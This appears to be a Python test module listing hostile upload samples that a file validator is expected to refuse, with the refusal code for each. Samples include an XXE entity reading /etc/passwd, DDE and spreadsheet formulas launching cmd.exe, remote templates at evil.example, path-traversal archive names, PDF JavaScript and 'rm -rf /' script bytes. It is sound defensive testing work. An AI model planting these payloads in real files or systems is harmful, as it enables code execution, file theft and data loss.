"""Files that want something else: each a name, what the browser would call it, its bytes, and why it is refused."""

import io
import struct
import tarfile
import zipfile
import zlib

from tests.files import samples
from tests.files.samples import doctype, in_body, object_stream, pdf, png, png_block, relation, rezip

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
MEGABYTE = 1024 * 1024
DOCUMENT, RELS = "word/document.xml", "word/_rels/document.xml.rels"
TYPES = "[Content_Types].xml"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512
LAUGHS = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>'
XXE = b'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'


def cases():
    """Yields (label, file name, content or a function that makes a heavy one, code of the refusal)."""
    yield from kinds()
    yield from names()
    yield from archives()
    yield from office()
    yield from xml()
    yield from pdfs()
    yield from pictures()
    yield from texts()


def kinds():
    yield "program", "setup.exe", b"MZ" + b"\0" * 200, "kind"
    yield "Basic script", "macro.vbs", b"MsgBox 1", "kind"
    yield "web page", "page.html", b"<html></html>", "kind"
    yield "drawing with script", "a.svg", b"<svg onload='x()'/>", "kind"
    yield "archive", "a.zip", samples.word(), "kind"
    yield "macro document", "a.docm", samples.word(), "kind"
    yield "macro workbook", "a.xlsm", samples.excel(), "kind"
    yield "old Word", "a.doc", OLE, "kind"
    yield "two extensions", "bao-cao.pdf.exe", pdf(), "kind"
    yield "no extension", "baocao", pdf(), "kind"
    yield "extension only after a space", "a.pdf .exe", pdf(), "kind"
    yield "empty", "a.txt", b"", "empty"
    yield "virus named pdf", "a.pdf", EICAR, "virus"
    yield "virus named txt", "a.txt", EICAR, "virus"
    yield "virus in a picture", "a.png", png(extra=png_block(b"tEXt", b"c\0" + EICAR)), "virus"
    yield "program named pdf", "a.pdf", b"MZ" + b"\0" * 200, "mismatch"
    yield "program named docx", "a.docx", b"MZ" + b"\0" * 200, "mismatch"
    yield "web page named pdf", "a.pdf", b"<html><script>x()</script></html>", "mismatch"
    yield "web page named png", "a.png", b"<html></html>", "mismatch"
    yield "old Word named docx", "a.docx", OLE, "mismatch"
    yield "pdf named docx", "a.docx", pdf(), "mismatch"
    yield "pdf named txt", "a.txt", b"%PDF-1.7\n", "mismatch"
    yield "png named jpg", "a.jpg", png(), "mismatch"
    yield "jpg named png", "a.png", samples.jpeg(), "mismatch"
    yield "workbook named docx", "a.docx", samples.excel(), "mismatch"
    yield "document named xlsx", "a.xlsx", samples.word(), "mismatch"
    yield "too large", "a.txt", lambda: b"a" * (10 * MEGABYTE + 1), "too-large"


def names():
    yield "direction override", "bao-cao\u202excod.txt", b"a", "name"
    yield "direction isolate", "bao\u2066cao.txt", b"a", "name"
    yield "right-to-left mark", "bao\u200fcao.txt", b"a", "name"
    yield "zero byte", "a.txt\0.exe.txt", b"a", "name"
    yield "line break", "a\r\nSet-Cookie: x.txt", b"a", "name"
    yield "escape", "a\x1b[2J.txt", b"a", "name"


def zipped(entries, method=zipfile.ZIP_DEFLATED):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as archive:
        for name, part in entries:
            archive.writestr(name, part)
    return file.getvalue()


def with_entry(name, part=b"x"):
    return rezip(samples.word(), add=[(name, part)])


def renamed(content, old, new):
    """The same archive with a part's name overwritten by one of the same length."""
    return content.replace(old, new)


def link():
    entry = zipfile.ZipInfo("word/media/link.png")
    entry.external_attr = 0o120777 << 16
    return rezip(samples.word(), add=[(entry, b"/etc/passwd")])


def locked():
    content = bytearray(samples.word())
    at = content.rindex(b"PK\x01\x02")
    content[at + 8] |= 1
    return bytes(content)


def overlapping():
    """Two entries of the directory that share the bytes of one."""
    content = bytearray(zipped([("a.xml", b"<a/>"), ("b.xml", b"<a/>")], zipfile.ZIP_STORED))
    second = content.rindex(b"PK\x01\x02")
    content[second + 42 : second + 46] = struct.pack("<I", 0)
    return bytes(content)


def archives():
    yield "bomb", "a.docx", lambda: with_entry("word/big.xml", bytes(101 * MEGABYTE)), "too-large"

    def many():
        return rezip(samples.word(), add=[(f"word/media/{n}.png", bytes(6 * MEGABYTE)) for n in range(18)])

    yield "bomb in parts", "a.docx", many, "too-large"
    yield "too many parts", "a.docx", lambda: zipped([(f"{n}.xml", b"<a/>") for n in range(2001)]), "too-many"
    yield "nested zip", "a.docx", with_entry("word/media/a.png", samples.excel()), "nested"
    yield "nested gzip", "a.docx", with_entry("word/media/a.png", b"\x1f\x8b\x08" + b"\0" * 20), "nested"
    yield (
        "nested 7z",
        "a.xlsx",
        rezip(samples.excel(), add=[("xl/media/a.png", b"7z\xbc\xaf\x27\x1c\0")]),
        "nested",
    )
    yield "nested rar", "a.docx", with_entry("word/media/a.png", b"Rar!\x1a\x07\0"), "nested"
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("a"))
    yield "nested tar", "a.docx", with_entry("word/media/a.png", tar.getvalue()), "nested"
    yield "parent path", "a.docx", with_entry("../../etc/cron.d/x.xml"), "path"
    yield "absolute path", "a.docx", with_entry("/etc/passwd.xml"), "path"
    yield "drive path", "a.docx", with_entry("C:/windows/x.xml"), "path"
    backslash = renamed(with_entry("..#..#x.xml"), b"..#..#x.xml", b"..\\..\\x.xml")
    yield "backslash path", "a.docx", backslash, "path"
    yield (
        "control character in a path",
        "a.docx",
        renamed(with_entry("w#x.xml"), b"w#x.xml", b"w\nx.xml"),
        "path",
    )
    yield "symbolic link", "a.docx", link(), "path"
    yield "locked", "a.docx", locked(), "locked"
    yield "overlapping parts", "a.docx", overlapping(), "structure"
    yield "same part twice", "a.docx", with_entry("WORD/Document.xml", b"<a/>"), "structure"
    yield "something before the archive", "a.docx", b"PK\x03\x04" + samples.word(), "structure"
    yield "something behind the archive", "a.docx", samples.word() + b"<script>", "structure"
    yield "cut off", "a.docx", samples.word()[:-200], "structure"
    spoilt = bytearray(samples.word())
    spoilt[60:80] = b"\xff" * 20
    yield "damaged part", "a.docx", bytes(spoilt), "structure"
    yield "unusual packing", "a.docx", rezip(samples.word(), method=zipfile.ZIP_LZMA), "structure"
    yield "an archive of something else", "a.docx", zipped([("a.xml", b"<a/>")]), "structure"


def changed(part, how, base=samples.word):
    return rezip(base(), change={part: how})


def typed(new):
    old = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return changed(TYPES, lambda part: part.replace(old, new))


def office():
    macro = b"application/vnd.ms-word.document.macroEnabled.main+xml"
    yield "macro type", "a.docx", typed(macro), "active"
    yield "macro part", "a.docx", with_entry("word/vbaProject.bin", OLE), "active"
    yield (
        "macro sheet",
        "a.xlsx",
        rezip(samples.excel(), add=[("xl/macrosheets/sheet1.xml", b"<a/>")]),
        "active",
    )
    yield "embedded object", "a.docx", with_entry("word/embeddings/oleObject1.bin", OLE), "active"
    yield "object under another name", "a.docx", with_entry("word/media/image1.png", OLE), "active"
    yield "program under another name", "a.docx", with_entry("word/media/image1.png", b"MZ\x90"), "active"
    yield "ActiveX", "a.docx", with_entry("word/activeX/activeX1.xml", b"<a/>"), "active"
    yield "program inside", "a.docx", with_entry("word/run.exe"), "active"
    yield "binary part", "a.xlsx", rezip(samples.excel(), add=[("xl/x.bin", b"abc")]), "active"
    yield (
        "foreign workbook",
        "a.xlsx",
        rezip(samples.excel(), add=[("xl/externalLinks/e1.xml", b"<a/>")]),
        "active",
    )
    yield "data connection", "a.xlsx", rezip(samples.excel(), add=[("xl/connections.xml", b"<a/>")]), "active"
    yield "web add-in", "a.docx", with_entry("word/webextensions/w.xml", b"<a/>"), "active"
    yield "embedded web page", "a.docx", changed(RELS, relation("aFChunk", "x.html")), "active"
    template = relation("attachedTemplate", "http://evil.example/t.dotm", "External")
    yield "remote template", "a.docx", changed(RELS, template), "active"
    yield "ole relation", "a.docx", changed(RELS, relation("oleObject", "http://x/o", "External")), "active"
    yield (
        "remote picture",
        "a.docx",
        changed(RELS, relation("image", "http://evil.example/i.png", "External")),
        "external",
    )
    yield (
        "picture on a share",
        "a.docx",
        changed(RELS, relation("image", "\\\\evil\\i.png", "External")),
        "external",
    )
    yield (
        "link to a program",
        "a.docx",
        changed(RELS, relation("hyperlink", "file:///c:/x.exe", "External")),
        "external",
    )
    yield (
        "script link",
        "a.docx",
        changed(RELS, relation("hyperlink", "javascript:x()", "External")),
        "external",
    )
    run = b"<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r>%s<w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>"
    field = b"<w:r><w:instrText>%s</w:instrText></w:r>"
    dde = run % (field % b' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"')
    yield "DDE field", "a.docx", changed(DOCUMENT, in_body(dde)), "active"
    cut = run % (field % b" DD" + field % b"EAU" + field % b"TO cmd x")
    yield "DDE field cut into runs", "a.docx", changed(DOCUMENT, in_body(cut)), "active"
    simple = b"<w:p><w:fldSimple w:instr=' INCLUDEPICTURE \"http://evil.example/x\"'/></w:p>"
    yield "field that loads", "a.docx", changed(DOCUMENT, in_body(simple)), "active"

    def formula(text):
        return rezip(
            samples.excel(), change={"xl/worksheets/sheet1.xml": lambda p: p.replace(b"SUM(B1:B2)", text)}
        )

    yield "DDE formula", "a.xlsx", formula(b"cmd|' /C calc'!A0"), "active"
    yield "formula that loads", "a.xlsx", formula(b'WEBSERVICE("http://x/")'), "active"
    yield "no main part", "a.docx", rezip(samples.word(), drop=[DOCUMENT]), "structure"
    yield "no types", "a.docx", rezip(samples.word(), drop=[TYPES]), "structure"
    yield (
        "template named docx",
        "a.docx",
        typed(b"application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"),
        "mismatch",
    )
    yield "another root", "a.docx", changed(DOCUMENT, lambda _part: b"<html/>"), "mismatch"


def xml():
    yield "XXE", "a.docx", changed(DOCUMENT, doctype(XXE)), "dtd"
    yield "laughs", "a.docx", changed(DOCUMENT, doctype(LAUGHS)), "dtd"
    yield "plain doctype", "a.docx", changed("word/styles.xml", doctype(b"<!DOCTYPE x>")), "dtd"
    yield "XXE in relations", "a.docx", changed(RELS, doctype(XXE)), "dtd"
    yield "XXE in types", "a.docx", changed(TYPES, doctype(XXE)), "dtd"
    yield (
        "XXE in a workbook",
        "a.xlsx",
        rezip(samples.excel(), change={"xl/workbook.xml": doctype(XXE)}),
        "dtd",
    )
    wide = changed(
        DOCUMENT, lambda part: doctype(XXE)(part).decode().replace("UTF-8", "UTF-16").encode("utf-16")
    )
    yield "XXE in UTF-16", "a.docx", wide, "dtd"
    yield "XXE in a drawing", "a.docx", with_entry("word/media/a.svg", XXE + b"<svg/>"), "dtd"
    deep = b"<a>" * 5000 + b"</a>" * 5000
    yield "very deep", "a.docx", with_entry("word/deep.xml", deep), "structure"
    yield "not closed", "a.docx", changed(DOCUMENT, lambda part: part[:-20]), "structure"
    yield (
        "unknown encoding",
        "a.docx",
        with_entry("word/x.xml", b"<?xml version='1.0' encoding='utf-7'?><a/>"),
        "structure",
    )


def pdfs():
    yield "script", "a.pdf", pdf(b"/OpenAction << /S /JavaScript /JS (x) >> "), "active"
    yield "script spelt out", "a.pdf", pdf(b"/OpenAction << /S /J#61vaScript /J#53 (x) >> "), "active"
    yield "short script", "a.pdf", pdf(b"/AA << /O << /JS 4 0 R >> >> "), "active"
    yield "starts a program", "a.pdf", pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >> "), "active"
    yield "file inside", "a.pdf", pdf(b"/Names << /EmbeddedFiles 4 0 R >> "), "active"
    yield "form of its own", "a.pdf", pdf(b"/AcroForm << /XFA 4 0 R >> "), "active"
    yield "sends a form", "a.pdf", pdf(b"/A << /S /SubmitForm >> "), "active"
    yield "film", "a.pdf", pdf(b"/Type /Annot /Subtype /RichMedia "), "active"
    yield "password", "a.pdf", pdf(b"", b"").replace(b"/Root", b"/Encrypt 9 0 R /Root"), "locked"
    yield "packed script", "a.pdf", pdf(b"", object_stream(b"1 0 << /S /JavaScript /JS (x) >>")), "active"
    yield "packed, spelt out", "a.pdf", pdf(b"", object_stream(b"1 0 << /JS#20 /#4aS (x) >>")), "active"
    yield "packed bomb", "a.pdf", lambda: pdf(b"", object_stream(bytes(101 * MEGABYTE))), "too-large"
    twice = object_stream(b"", packed=b"41>", filters=b"[/ASCIIHexDecode /FlateDecode]")
    yield "packed twice", "a.pdf", pdf(b"", twice), "structure"
    yield "packed and broken", "a.pdf", pdf(b"", object_stream(b"", packed=b"no deflate")), "structure"
    hiding = zlib.compressobj(0)
    stored = hiding.compress(b"endstream 1 0 << /S /JavaScript >>") + hiding.flush()
    yield "packed behind its own end", "a.pdf", pdf(b"", object_stream(b"", packed=stored)), "active"
    yield "no end", "a.pdf", b"%PDF-1.7\n1 0 obj\n", "structure"
    yield "something before", "a.pdf", b"<html>" + pdf(), "mismatch"
    yield "archive behind", "a.pdf", pdf()[:-6] + samples.word() + b"%%EOF\n", "polyglot"
    yield "header of nothing", "a.pdf", b"%PDF-x" + b"%%EOF", "structure"


def pictures():
    yield "pixel flood", "a.png", png(30_000, 30_000), "too-large"
    yield "pixel flood in a photo", "a.jpg", samples.jpeg(60_000, 60_000), "too-large"
    yield "no pixels", "a.png", png(0, 10), "structure"
    yield "wrong sum", "a.png", png()[:-20] + b"\0" * 8 + png()[-12:], "structure"
    yield "endless block", "a.png", png()[:8] + b"\xff\xff\xff\xffIHDR" + png()[16:], "structure"
    yield "no picture in it", "a.png", png()[:33] + png_block(b"IEND", b""), "structure"
    yield "cut photo", "a.jpg", samples.jpeg()[:-6], "structure"
    yield (
        "photo without frame",
        "a.jpg",
        b"\xff\xd8\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00\x11\xff\xd9",
        "structure",
    )
    yield "only a mark", "a.jpg", b"\xff\xd8\xff", "structure"
    hidden = png_block(b"tEXt", b"c\0" + samples.excel())
    yield "archive inside", "a.png", png(extra=hidden), "polyglot"


def texts():
    yield "page in a text", "a.txt", b"  <!DOCTYPE html><script>x()</script>", "mismatch"
    yield "script in a text", "a.txt", b"#!/bin/sh\nrm -rf /", "mismatch"
    yield "rtf in a text", "a.txt", b"{\\rtf1 }", "mismatch"
    yield "zero bytes", "a.txt", b"abc\0def", "mismatch"
    yield "escape sequences", "a.txt", b"\x1b]0;x\x07", "mismatch"
    yield "not UTF-8", "a.csv", "Đơn vị".encode("utf-16"), "mismatch"
    yield "overlong UTF-8", "a.txt", b"\xc0\xaf\xc0\xae", "mismatch"
    yield "turned around", "a.txt", "abc\u202edef".encode(), "mismatch"
    yield "quotes that never close", "a.csv", b'a,"b\nc,d\n', "structure"
    yield "archive in a table", "a.csv", samples.word(), "mismatch"
